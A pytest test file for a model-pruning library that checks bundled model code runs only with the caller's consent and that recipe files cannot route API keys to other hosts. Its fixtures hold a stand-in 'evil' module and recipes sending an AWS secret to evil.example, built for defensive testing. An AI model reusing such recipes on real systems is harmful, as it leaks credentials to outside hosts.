"""Code that comes with a model runs where the caller allows it; nothing that was downloaded can."""

import json
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from typer.testing import CliRunner

import prunekit
from prunekit.cli.main import app
from prunekit.errors import NotVerified, WrongInput
from prunekit.export import verify
from prunekit.models.classes import BUNDLED
from prunekit.models.opening import load_tokenizer, skeleton
from prunekit.recipe.resolve import resolve
from prunekit.recipe.schema import Recipe
from prunekit.run.results import Result

CODE = """
from pathlib import Path
from transformers import LlamaConfig, LlamaForCausalLM
Path({marker!r}).touch()
class C(LlamaConfig):
    model_type = "evil"
class M(LlamaForCausalLM):
    config_class = C
"""


@pytest.fixture(scope="module")
def result(saved_tiny: Callable[..., Path], tmp_path_factory: pytest.TempPathFactory, quick: Any) -> Path:
    """A result of unequal layers, with bundled code."""
    out = tmp_path_factory.mktemp("results") / "out"
    prunekit.prune(saved_tiny(), output=out, code="bundled", verify=False, **quick())
    assert (out / f"{BUNDLED}.py").exists()
    return out


@pytest.fixture
def hostile(result: Path, tmp_path: Path) -> tuple[Path, Path]:
    """(a folder whose model is of a class of its own, the file that its code makes)."""
    folder, marker = tmp_path / "downloaded", tmp_path / "ran"
    shutil.copytree(result, folder)
    (folder / f"{BUNDLED}.py").unlink()
    auto = {"AutoConfig": "evil.C", "AutoModelForCausalLM": "evil.M"}
    edit(folder / "config.json", auto_map=auto, model_type="evil")
    (folder / "evil.py").write_text(CODE.format(marker=str(marker)))
    return folder, marker


def edit(file: Path, **values: Any) -> None:
    file.write_text(json.dumps(json.loads(file.read_text()) | values))


def test_a_result_that_calls_its_code_bundled_runs_none(hostile: tuple[Path, Path]) -> None:
    folder, marker = hostile
    assert "code: bundled" in (folder / "recipe.yaml").read_text()
    for act in (Result.load, lambda path: skeleton(str(path)), lambda path: prunekit.prune(path, quiet=True)):
        with pytest.raises(WrongInput, match="comes with code of its own, which runs only where the caller allows it"):
            act(folder)
    with pytest.raises(NotVerified):
        verify(folder, torch.zeros(1, 2, dtype=torch.long), torch.zeros(1, 2, 3), 1)
    assert not marker.exists()
    with pytest.raises(WrongInput, match="evil"):  # it runs, and there is no adapter for it
        skeleton(str(folder), trust_remote_code=True)
    assert marker.exists()


def test_our_own_bundled_code_needs_no_consent_and_other_code_beside_it_does(result: Path, tmp_path: Path) -> None:
    assert type(Result.load(result).model).__module__ == "prunekit.models.classes"
    folder, marker = tmp_path / "out", tmp_path / "ran"
    shutil.copytree(result, folder)
    with (folder / f"{BUNDLED}.py").open("a") as file:
        file.write(f"\nPath({str(marker)!r}).touch()\n")
    for more in ((), ("custom_generate",)):
        for name in more:
            shutil.copy(result / f"{BUNDLED}.py", folder)
            (folder / name).mkdir()
            (folder / name / "generate.py").write_text(f"open({str(marker)!r}, 'w')")
        with pytest.raises(NotVerified, match="parameters, not 1"):
            verify(folder, torch.zeros(1, 2, dtype=torch.long), torch.zeros(1, 2, 2048), 1)
        assert not marker.exists()


def test_a_recipe_that_allows_code_is_refused_unless_the_caller_allows_it(hostile: tuple[Path, Path]) -> None:
    folder, marker = hostile
    theirs = folder.parent / "theirs.yaml"
    theirs.write_text(f"model: {folder}\ntrust_remote_code: true\n")
    asks = "asks to run code that comes with the model, which only the caller can allow"
    with pytest.raises(WrongInput, match=asks):
        prunekit.prune(recipe=theirs, quiet=True)
    with pytest.raises(WrongInput, match=asks):
        prunekit.tune(recipe=theirs, output=folder.parent / "study", quiet=True)
    for command in ("plan", "prune", "tune"):
        where = [] if command == "plan" else ["--output", str(folder.parent / "small")]
        said = CliRunner().invoke(app, [command, "--recipe", str(theirs), *where])
        assert (said.exit_code, said.output.count("\n")) == (2, 1)
        assert asks in said.output
    recipe = folder / "recipe.yaml"
    recipe.write_text(recipe.read_text().replace("trust_remote_code: false", "trust_remote_code: true"))
    with pytest.raises(WrongInput, match=asks):
        Result.load(folder)
    assert not marker.exists()
    said = CliRunner().invoke(app, ["plan", "--recipe", str(theirs), "--set", "trust_remote_code=false"])
    assert "comes with code of its own" in said.output
    assert not marker.exists()
    said = CliRunner().invoke(app, ["plan", "--recipe", str(theirs), "--trust-remote-code"])
    assert "evil" in said.output
    assert marker.exists()


EVIL = "http://evil.example/v1"
THEIRS = f"allocator: {{name: self-pruner, backend: openai, model: m, base_url: {EVIL}, key_variable: AWS_SECRET}}\n"


@pytest.fixture
def sent(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, str]]:
    """(address, key) of whatever goes out."""
    from prunekit_strategies import chat

    def refused(request: Any, timeout: float) -> Any:
        went.append((request.full_url, request.get_header("Authorization")))
        raise OSError("refused")

    went: list[tuple[str, str]] = []
    monkeypatch.setenv("AWS_SECRET", "wJalrXUtnFEMI")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-abcdefgh")
    monkeypatch.setattr(chat, "_fetched", refused)
    monkeypatch.setattr(chat, "PAUSE", 0)
    return went


def test_a_key_goes_nowhere_on_the_word_of_a_file(
    result: Path, saved_tiny: Callable[..., Path], tmp_path: Path, quick: Any, sent: list[tuple[str, str]]
) -> None:
    theirs, model = tmp_path / "theirs.yaml", str(saved_tiny())
    theirs.write_text(THEIRS)
    folder = tmp_path / "downloaded"
    shutil.copytree(result, folder)
    recipe = folder / "recipe.yaml"
    recipe.write_text(re.sub(r"allocator:\n(  .*\n)*", THEIRS, recipe.read_text()))
    for source in (theirs, folder, Result.load(folder).recipe):
        with pytest.raises(WrongInput, match=r"says allocator\.base_url=http://evil.*--set allocator\.base_url=http"):
            prunekit.prune(model, recipe=source, quiet=True)
        with pytest.raises(WrongInput, match=r"says allocator\.key_variable=AWS_SECRET"):
            prunekit.prune(model, recipe=source, allocator__base_url=EVIL, allocator="self-pruner", quiet=True)
    with pytest.raises(WrongInput, match="whom to talk to"):
        prunekit.tune(model, recipe=theirs, output=tmp_path / "study", quiet=True)
    wrapped = tmp_path / "wrapped.yaml"
    wrapped.write_text(THEIRS.replace("{", "{name: tyr, inner: {", 1).strip() + "}\n")
    with pytest.raises(WrongInput, match=r"says allocator\.inner\.base_url"):
        prunekit.prune(model, recipe=wrapped, quiet=True)
    ray = tmp_path / "ray.yaml"
    ray.write_text("engine: ray://evil.example:10001\n")
    with pytest.raises(WrongInput, match=r"says engine\.address=ray://evil"):
        prunekit.prune(model, recipe=ray, quiet=True)
    space = tmp_path / "space.yaml"
    space.write_text(THEIRS.replace("{", "[wanda, {", 1).replace("}", "}]"))
    with pytest.raises(WrongInput, match=r"says allocator\.self-pruner\.base_url"):
        prunekit.tune(model, space=space, output=tmp_path / "study", quiet=True)
    for command in ("plan", "prune"):
        said = CliRunner().invoke(app, [command, model, "--recipe", str(theirs), "--output", str(tmp_path / "small")])
        assert (said.exit_code, said.output.count("\n")) == (2, 1)
    assert sent == []


def test_a_key_goes_where_the_caller_says(
    saved_tiny: Callable[..., Path], tmp_path: Path, sent: list[tuple[str, str]]
) -> None:
    theirs, model = tmp_path / "theirs.yaml", str(saved_tiny())
    theirs.write_text(THEIRS)
    output = ["--output", str(tmp_path / "small"), "--quiet"]
    sets = ["--set", f"allocator.base_url={EVIL}", "--set", "allocator.key_variable=AWS_SECRET"]
    said = CliRunner().invoke(app, ["prune", model, "--recipe", str(theirs), *sets, *output])
    assert "gave no answer: refused" in said.output
    assert {*sent} == {(f"{EVIL}/chat/completions", "Bearer wJalrXUtnFEMI")}
    sent.clear()
    spec = {"name": "self-pruner", "backend": "openai", "model": "m", "base_url": EVIL}
    for recipe, more in [("default", {"allocator": spec}), ("self-pruner", {"allocator__base_url": EVIL})]:
        with pytest.raises(WrongInput, match="gave no answer"):
            prunekit.prune(model, recipe=recipe, quiet=True, **more)
        assert {*sent} == {(f"{EVIL}/chat/completions", "Bearer sk-abcdefgh")}
    sent.clear()
    default = Recipe.load("self-pruner").with_overrides({"model": model})
    theirs.write_text(resolve(default).recipe.to_yaml())  # defaults are of the plug-in, whoever writes them down
    with pytest.raises(WrongInput, match="gave no answer"):
        prunekit.prune(recipe=theirs, quiet=True)
    assert {*sent} == {("https://api.openai.com/v1/chat/completions", "Bearer sk-abcdefgh")}


def test_evaluate_and_a_tokenizer_run_no_code_either(hostile: tuple[Path, Path]) -> None:
    folder, marker = hostile
    said = CliRunner().invoke(app, ["evaluate", str(folder), "-q"])
    assert said.exit_code == 2
    assert "--trust-remote-code" in said.output
    edit(folder / "tokenizer_config.json", auto_map={"AutoTokenizer": ["evil.T", None]}, tokenizer_class="T")
    with pytest.raises(WrongInput, match=r"has no tokenizer|comes with code of its own"):
        load_tokenizer(str(folder))
    assert not marker.exists()
